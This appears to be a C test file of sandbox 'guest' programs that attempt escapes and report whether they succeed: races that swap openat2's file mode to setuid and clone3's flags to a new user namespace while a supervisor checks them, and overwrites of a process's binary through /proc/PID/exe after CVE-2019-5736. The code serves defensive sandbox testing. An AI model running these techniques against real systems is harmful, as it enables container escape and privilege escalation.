/* Guests that change something between the moment it is looked at and the moment it is used. */
#include "guest.h"
#include <linux/openat2.h>
#include <linux/sched.h>
#include <pthread.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <time.h>

#define ACT(name) static void name(int argc, char **argv)
#define NEED(n) if (argc < (n)) exit(2)
/* So often where it is refused. Where it is not, until the other thread comes in between, which on a
 * busy machine may not run for a while. */
#define ROUNDS 2000
#define PATIENCE 30

static volatile int over;
static int again(int round, int error) {
    static time_t end;
    if (round == 0) end = time(NULL) + PATIENCE;
    if (round % 64 == 63) sched_yield();
    return round < ROUNDS || (!error && time(NULL) < end);
}

/* The mode of openat2 is in memory: a supervisor that looked at it would see the harmless one. */
static volatile struct open_how how = {.flags = O_CREAT | O_WRONLY};
static void *flip_mode(void *nothing) {
    while (!over) how.mode = how.mode == 0644 ? 04755 : 0644;
    return nothing;
}
ACT(mode_of_openat2) {
    NEED(1);
    pthread_t thread;
    int planted = 0, error = 0;
    how.mode = 0644;
    umask(0);
    pthread_create(&thread, NULL, flip_mode, NULL);
    for (int i = 0; !planted && again(i, error); i++) {
        struct stat st;
        int fd = (int)syscall(SYS_openat2, AT_FDCWD, argv[0], &how, sizeof how);
        if (fd < 0) error = errno;
        planted = fd >= 0 && fstat(fd, &st) == 0 && (st.st_mode & 04000);
        close(fd);
        unlink(argv[0]);
    }
    over = 1;
    pthread_join(thread, NULL);
    if (planted) say("EFFECT");
    else if (error) refused(error);
    else say("never");
}
/* The flags of clone3 are in memory too. */
static volatile struct clone_args args = {.exit_signal = SIGCHLD};
static void *flip_flags(void *nothing) {
    while (!over) args.flags ^= CLONE_NEWUSER;
    return nothing;
}
ACT(flags_of_clone3) {
    (void)argc, (void)argv;
    char own[64] = {0}, theirs[64];
    ssize_t n = readlink("/proc/self/ns/user", own, sizeof own - 1);
    pthread_t thread;
    int made = 0, error = n < 0 ? errno : 0;
    pthread_create(&thread, NULL, flip_flags, NULL);
    for (int i = 0; !made && again(i, error); i++) {
        long pid = syscall(SYS_clone3, &args, sizeof args);
        if (pid == 0) {
            n = readlink("/proc/self/ns/user", theirs, sizeof theirs - 1);
            _exit(n > 0 && strncmp(own, theirs, (size_t)n) != 0);
        }
        int status = 0;
        if (pid < 0) error = errno;
        else if (waitpid((pid_t)pid, &status, 0) > 0) made = WIFEXITED(status) && WEXITSTATUS(status) == 1;
    }
    over = 1;
    pthread_join(thread, NULL);
    if (made) say("EFFECT");
    else if (error) refused(error);
    else say("never");
}

/* Overwrites the program of a process through its /proc/PID/exe, once nothing runs it any more
 * (CVE-2019-5736): argument 0 is a program of its own, which stands for the one that started it. */
ACT(exe_of_a_child) {
    NEED(1);
    char path[64];
    pid_t pid = fork();
    if (pid == 0) {
        prctl(PR_SET_PDEATHSIG, SIGKILL);
        execl(argv[0], argv[0], "60", (char *)NULL);
        _exit(1);
    }
    /* Until it runs the other program. */
    char name[512];
    ssize_t n;
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    while ((n = readlink(path, name, sizeof name - 1)) > 0) {
        name[n] = 0;
        if (strcmp(name, argv[0]) == 0) break;
        sched_yield();
    }
    int held = open(path, O_PATH);
    kill(pid, SIGKILL);
    waitpid(pid, NULL, 0);
    snprintf(path, sizeof path, "/proc/self/fd/%d", held);
    int fd = open(path, O_WRONLY);
    outcome(fd < 0 ? -1 : write(fd, "taken", 5));
}
/* The same to whatever program runs the process that it is told. */
ACT(exe_of) {
    NEED(1);
    char path[64];
    snprintf(path, sizeof path, "/proc/%s/exe", argv[0]);
    int fd = open(path, O_WRONLY);
    outcome(fd < 0 ? -1 : write(fd, "taken", 5));
}

int main(int argc, char **argv) {
#define A(name) {#name, name}
    static const struct act acts[] = {A(mode_of_openat2), A(flags_of_clone3), A(exe_of_a_child), A(exe_of), {NULL, NULL}};
    return dispatch(acts, argc, argv);
}
